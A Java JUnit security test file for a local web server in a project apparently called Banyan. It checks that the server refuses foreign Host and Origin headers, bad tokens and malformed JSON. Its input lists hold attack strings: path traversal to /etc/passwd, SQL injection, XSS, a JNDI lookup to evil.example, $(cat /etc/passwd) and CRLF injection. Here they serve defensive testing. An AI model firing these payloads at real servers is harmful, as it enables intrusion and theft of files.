// SPDX-License-Identifier: Apache-2.0
package io.banyan.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Foreign pages and odd requests get nothing. */
class SafetyTest {
  private static final String SECRET = "the-secret-of-the-file-beside-the-results";

  @TempDir static Path folder;
  private static TestServer server;

  @BeforeAll
  static void start() throws IOException {
    Files.writeString(folder.resolve("secret.txt"), SECRET);
    server = new TestServer(Files.createDirectory(folder.resolve("results")));
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  /** Routes of every kind: the page, its files, the API, nothing at all. */
  private static final List<String> ROUTES =
      List.of(
          "/",
          "/app.js",
          "/lib/lit/3.3.2/index.js",
          "/api/v1/session",
          "/api/v1/games",
          "/api/v1/experiments",
          "/api/v1/searches/0",
          "/nowhere");

  static List<String> foreignHosts() {
    int port = server.port();
    return List.of(
        "evil.example",
        "evil.example:" + port,
        "localhost",
        "127.0.0.1",
        "localhost:" + (port + 1),
        "127.0.0.1:" + (port - 1),
        "localhost.evil.example:" + port,
        "evil.example.localhost:" + port,
        "127.0.0.1.evil.example:" + port,
        "127.0.0.1.nip.io:" + port,
        "localtest.me:" + port,
        "lvh.me:" + port,
        "localhost.:" + port,
        "127.0.0.1.:" + port,
        "127.1:" + port,
        "127.0.1:" + port,
        "127.0.0.2:" + port,
        "127.0.0.01:" + port,
        "0.0.0.0:" + port,
        "0:" + port,
        "2130706433:" + port,
        "0x7f000001:" + port,
        "0177.0.0.1:" + port,
        "[::]:" + port,
        "[::2]:" + port,
        "[0:0:0:0:0:0:0:1]:" + port,
        "[::ffff:127.0.0.1]:" + port,
        "[::1%25lo]:" + port,
        "::1:" + port,
        "192.168.0.1:" + port,
        "10.0.0.1:" + port,
        "169.254.169.254:" + port,
        "user@localhost:" + port,
        "localhost:" + port + "@evil.example",
        "localhost:" + port + ".evil.example",
        "localhost:" + port + ",evil.example",
        "localhost:" + port + " evil.example",
        "localhost:0" + port,
        "localhost:" + port + "/",
        "localhost:" + port + "#",
        "xn--lcalhost-54a:" + port,
        "l\u00f6calhost:" + port,
        "%6c%6f%63%61%6c%68%6f%73%74:" + port,
        "",
        " ",
        "null",
        "*",
        "a".repeat(5000));
  }

  @ParameterizedTest
  @MethodSource("foreignHosts")
  void noRouteAnswersToAForeignHost(String host) {
    for (String route : ROUTES) {
      String answer = Wire.get(server.port(), route, "Host: " + host);

      assertThat(Wire.status(answer)).as(route).isIn(400, 403, 431);
      assertThat(answer).doesNotContain("token\":", "<html", "games\":", "import");
    }
  }

  @Test
  void aRequestWithoutHostOrWithTwoIsRefused() {
    String own = "Host: 127.0.0.1:" + server.port();

    assertThat(Wire.status(Wire.get(server.port(), "/", "X-Nothing: 1"))).isIn(400, 403);
    assertThat(Wire.status(Wire.get(server.port(), "/", own, "Host: evil.example"))).isIn(400, 403);
    assertThat(Wire.status(Wire.get(server.port(), "/", own, own))).isIn(400, 403);
    assertThat(Wire.status(Wire.send(server.port(), "GET / HTTP/1.0\r\n\r\n"))).isIn(400, 403);
  }

  @Test
  void anAbsoluteTargetCannotNameAnotherHost() {
    String own = "Host: 127.0.0.1:" + server.port();

    for (String target : List.of("http://evil.example/", "http://evil.example/api/v1/session")) {
      assertThat(Wire.status(Wire.get(server.port(), target, own))).isIn(400, 403);
    }
  }

  static List<String> foreignOrigins() {
    int port = server.port();
    return List.of(
        "null",
        "http://evil.example",
        "http://evil.example:" + port,
        "https://127.0.0.1:" + port,
        "https://localhost:" + port,
        "http://127.0.0.1",
        "http://127.0.0.1:" + (port + 1),
        "http://localhost:" + (port + 1),
        "http://localhost:" + port + ".evil.example",
        "http://localhost:" + port + "@evil.example",
        "http://localhost.evil.example:" + port,
        "http://127.0.0.1.nip.io:" + port,
        "file://",
        "chrome-extension://abcdef",
        "moz-extension://abcdef",
        "data:",
        "http://[::2]:" + port,
        "http://0.0.0.0:" + port,
        "localhost:" + port,
        "127.0.0.1:" + port,
        "http:/127.0.0.1:" + port,
        "ws://127.0.0.1:" + port,
        "http://127.0.0.1:" + port + "/",
        "http://127.0.0.1:" + port + " http://evil.example",
        "*");
  }

  @ParameterizedTest
  @MethodSource("foreignOrigins")
  void noRouteAnswersToAForeignOriginEvenWithTheToken(String origin) {
    String own = "Host: 127.0.0.1:" + server.port();
    for (String route : ROUTES) {
      String answer = Wire.get(server.port(), route, own, "Origin: " + origin);
      assertThat(Wire.status(answer)).as(route).isEqualTo(403);
      assertThat(answer).doesNotContainIgnoringCase("Access-Control-Allow");
    }
    String post =
        Wire.post(
            server.port(),
            "/api/v1/positions",
            "{\"game\":\"tictactoe\"}",
            own,
            "Origin: " + origin,
            "Content-Type: application/json",
            "X-Banyan-Token: " + server.token());
    assertThat(Wire.status(post)).isEqualTo(403);
  }

  @ParameterizedTest
  @ValueSource(strings = {"cross-site", "same-site", "anything"})
  void whatABrowserFetchesForAnotherPageIsRefusedButALinkToThePageIsNot(String site) {
    String own = "Host: 127.0.0.1:" + server.port();
    String from = "Sec-Fetch-Site: " + site;

    assertThat(Wire.status(Wire.get(server.port(), "/api/v1/session", own, from))).isEqualTo(403);
    assertThat(
            Wire.status(Wire.get(server.port(), "/app.js", own, from, "Sec-Fetch-Mode: no-cors")))
        .isEqualTo(403);
    assertThat(
            Wire.status(
                Wire.get(
                    server.port(),
                    "/",
                    own,
                    from,
                    "Sec-Fetch-Mode: navigate",
                    "Sec-Fetch-Dest: iframe")))
        .isEqualTo(403);
    assertThat(
            Wire.status(
                Wire.get(
                    server.port(),
                    "/",
                    own,
                    from,
                    "Sec-Fetch-Mode: navigate",
                    "Sec-Fetch-Dest: document")))
        .isEqualTo(200);
  }

  @Test
  void theOwnNamesAreAnswered() {
    for (String name : List.of("127.0.0.1", "localhost", "[::1]", "LOCALHOST")) {
      String host = name + ":" + server.port();
      String answer =
          Wire.get(
              server.port(),
              "/",
              "Host: " + host,
              "Origin: http://" + host.toLowerCase(java.util.Locale.ROOT));
      assertThat(Wire.status(answer)).as(name).isEqualTo(200);
    }
  }

  static List<String> wrongTokens() {
    String token = server.token();
    return List.of(
        "",
        " ",
        "null",
        "x",
        token.substring(1),
        token + "0",
        token.toUpperCase(java.util.Locale.ROOT) + " ",
        "0".repeat(token.length()),
        token + "," + token);
  }

  @ParameterizedTest
  @MethodSource("wrongTokens")
  void aPostNeedsTheTokenOfThisRun(String token) {
    String answer =
        Wire.post(
            server.port(),
            "/api/v1/positions",
            "{\"game\":\"tictactoe\"}",
            "Host: 127.0.0.1:" + server.port(),
            "Content-Type: application/json",
            "X-Banyan-Token: " + token);

    assertThat(Wire.status(answer)).isEqualTo(403);
    assertThat(Wire.body(answer)).contains("\"token\"");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data",
        "application/jsonp",
        "text/plain; application/json",
        ""
      })
  void aPostMustBeJson(String type) {
    String answer =
        Wire.post(
            server.port(),
            "/api/v1/positions",
            "{\"game\":\"tictactoe\"}",
            "Host: 127.0.0.1:" + server.port(),
            "Content-Type: " + type,
            "X-Banyan-Token: " + server.token());

    assertThat(Wire.status(answer)).isEqualTo(415);
  }

  @ParameterizedTest
  @ValueSource(strings = {"PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "FOO", "get"})
  void otherMethodsAreRefused(String method) {
    String answer =
        Wire.send(
            server.port(),
            method
                + " /api/v1/games HTTP/1.1\r\nHost: 127.0.0.1:"
                + server.port()
                + "\r\nConnection: close\r\n\r\n");

    assertThat(Wire.status(answer)).isIn(400, 403, 405, 501);
    assertThat(answer).doesNotContainIgnoringCase("Access-Control-Allow");
  }

  @Test
  void aRequestOfMoreThanAMegabyteIsRefused() {
    String big = "{\"game\":\"" + "x".repeat(1_100_000) + "\"}";

    String answer =
        Wire.send(
            server.port(),
            "POST /api/v1/positions HTTP/1.1\r\nHost: 127.0.0.1:"
                + server.port()
                + "\r\nContent-Type: application/json\r\nX-Banyan-Token: "
                + server.token()
                + "\r\nConnection: close\r\nContent-Length: "
                + big.length()
                + "\r\n\r\n{");

    assertThat(Wire.status(answer)).isEqualTo(413);
  }

  @Test
  void everyAnswerCarriesThePolicyAndNoScriptIsInline() {
    for (String route : ROUTES) {
      String answer = Wire.getHere(server.port(), route);
      String policy =
          answer
              .lines()
              .filter(line -> line.startsWith("Content-Security-Policy: "))
              .findFirst()
              .orElseThrow();
      assertThat(policy)
          .contains("default-src 'none'", "script-src 'self' 'sha256-", "frame-ancestors 'none'")
          .doesNotContain("unsafe", "*", "http:", "data:");
      assertThat(answer).contains("X-Content-Type-Options: nosniff");
      assertThat(answer).doesNotContainIgnoringCase("Server: ");
    }
    String page = Wire.body(Wire.getHere(server.port(), "/"));
    assertThat(page.split("<script", -1)).hasSize(3);
    assertThat(page).contains("<script type=\"importmap\">", "<script type=\"module\" src=");
    assertThat(page).doesNotContainPattern("\\son[a-z]+=").doesNotContain("<style", " style=");
  }

  static Stream<String> oddPaths() {
    List<String> paths = new ArrayList<>();
    for (String up :
        List.of(
            "../",
            "..%2f",
            "%2e%2e/",
            "%2e%2e%2f",
            "..%5c",
            "..\\",
            "..;/",
            ".%2e/",
            "%252e%252e%252f",
            "..%c0%af",
            "%c0%ae%c0%ae/",
            "....//",
            "..%00/",
            "%u002e%u002e/")) {
      paths.add("/" + up.repeat(6) + "etc/passwd");
      paths.add("/lib/" + up.repeat(6) + "etc/passwd");
      paths.add("/api/v1/experiments/" + up + "secret.txt");
      paths.add("/api/v1/papers/" + up + "secret.txt/report");
      paths.add("/lib/lit/3.3.2/" + up.repeat(3) + "secret.txt");
    }
    paths.addAll(
        List.of(
            "/secret.txt",
            "/results/secret.txt",
            "//etc/passwd",
            "/\\etc\\passwd",
            "/file:///etc/passwd",
            "/etc/passwd%00.js",
            "/app.js%00",
            "/app.js/../../secret.txt",
            "/WEB-INF/web.xml",
            "/META-INF/MANIFEST.MF",
            "/META-INF/resources/webjars/lit/3.3.2/package.json",
            "/lib/lit/3.3.2/package.json",
            "/io/banyan/web/WebServer.class",
            "/api/v1/experiments/'%20OR%201=1--",
            "/api/v1/experiments/x/games/1'%20UNION%20SELECT%20*%20FROM%20meta--",
            "/api/v1/experiments/%3Cscript%3Ealert(1)%3C/script%3E",
            "/api/v1/searches/%3Cimg%20src=x%20onerror=alert(1)%3E",
            "/api/v1/searches/${jndi:ldap://evil.example/a}",
            "/api/v1/searches/%24%7B7*7%7D",
            "/api/v1/searches/%",
            "/api/v1/searches/%zz",
            "/api/v1/experiments/%u0041/games/1",
            "/?q=%",
            "/api/v1/searches/$(id)",
            "/api/v1/searches/;id;",
            "/api/v1/searches/x%0d%0aSet-Cookie:%20a=b",
            "/api/v1/searches/x?path=1%27--",
            "/api/v1/searches/x?path=../../secret.txt",
            "/%0d%0aX-Injected:%20yes",
            "/?q=%0d%0aX-Injected:%20yes",
            "/api/v2/session",
            "/api/v1",
            "/api/v1/../../session",
            "/.git/config",
            "/.env",
            "/" + "a/".repeat(3000)));
    return paths.stream();
  }

  @ParameterizedTest
  @MethodSource("oddPaths")
  void oddPathsLeakNothing(String path) {
    String answer = Wire.getHere(server.port(), path);

    assertThat(Wire.status(answer)).isIn(200, 400, 404, 414, 431);
    if (Wire.status(answer) == 200) {
      assertThat(path).startsWith("/?q=%0d");
    }
    assertThat(answer)
        .doesNotContain(
            SECRET, "root:x:", "Exception", "\tat ", "Set-Cookie", "Jetty", "javalin", "SQLite")
        .doesNotContain("<script>alert", "<img src=x", folder.toString());
    assertThat(answer.lines()).noneMatch(line -> line.startsWith("X-Injected"));
  }

  static List<String> oddTexts() {
    return List.of(
        "'; DROP TABLE game; --",
        "\\\" OR 1=1",
        "<script>alert(1)</script>",
        "../../secret.txt",
        "file:///etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "$(cat /etc/passwd)",
        "`id`",
        "hex(file=\\\"/etc/passwd\\\")",
        "hex(size=999999999)",
        "hex(size=-1)",
        "hex(size=1e9)",
        "uct(" + "(".repeat(900),
        "mcts(select=" + "mcts(select=".repeat(100),
        "\\u0000",
        "\\ud800",
        "a".repeat(1999),
        "{{7*7}}",
        "%s%s%n",
        "\\r\\nSet-Cookie: a=b");
  }

  @ParameterizedTest
  @MethodSource("oddTexts")
  void oddTextsAreRefusedWithASentence(String text) {
    for (String body :
        List.of(
            "{\"game\":\"" + text + "\"}",
            "{\"game\":\"tictactoe\",\"moves\":[\"" + text + "\"]}",
            "{\"game\":\"tictactoe\",\"agent\":\"" + text + "\"}",
            "{\"game\":\"tictactoe\",\"budget\":\"" + text + "\"}",
            "{\"text\":\"" + text + "\"}")) {
      String path =
          body.contains("agent") || body.contains("budget")
              ? "/searches"
              : body.contains("text\"") ? "/records/read" : "/positions";
      TestServer.Answer answer = server.post(path, body);

      assertThat(answer.status()).as(body).isEqualTo(400);
      assertThat(answer.error()).isNotBlank().doesNotContain("Exception", SECRET, "root:x:");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "[]",
        "null",
        "7",
        "\"x\"",
        "{",
        "{\"game\":}",
        "{\"game\":7}",
        "{\"game\":[]}",
        "{\"moves\":[]}",
        "{\"game\":\"tictactoe\",\"moves\":{}}",
        "{\"game\":\"tictactoe\",\"moves\":[[]]}",
        "{\"game\":\"tictactoe\",\"moves\":[99]}",
        "{\"game\":\"tictactoe\",\"moves\":[-1]}",
        "{\"game\":\"tictactoe\",\"moves\":[1.5]}",
        "{\"game\":\"tictactoe\",\"moves\":[0,0]}",
        "{\"game\":\"tictactoe\",\"moves\":[2147483648]}"
      })
  void wrongJsonIsRefusedWithASentence(String body) {
    TestServer.Answer answer = server.post("/positions", body);

    assertThat(answer.status()).isEqualTo(400);
    assertThat(answer.error()).isNotBlank();
  }

  @Test
  void deeplyNestedJsonIsRefused() {
    TestServer.Answer answer = server.post("/positions", "[".repeat(200_000));

    assertThat(answer.status()).isEqualTo(400);
  }
}
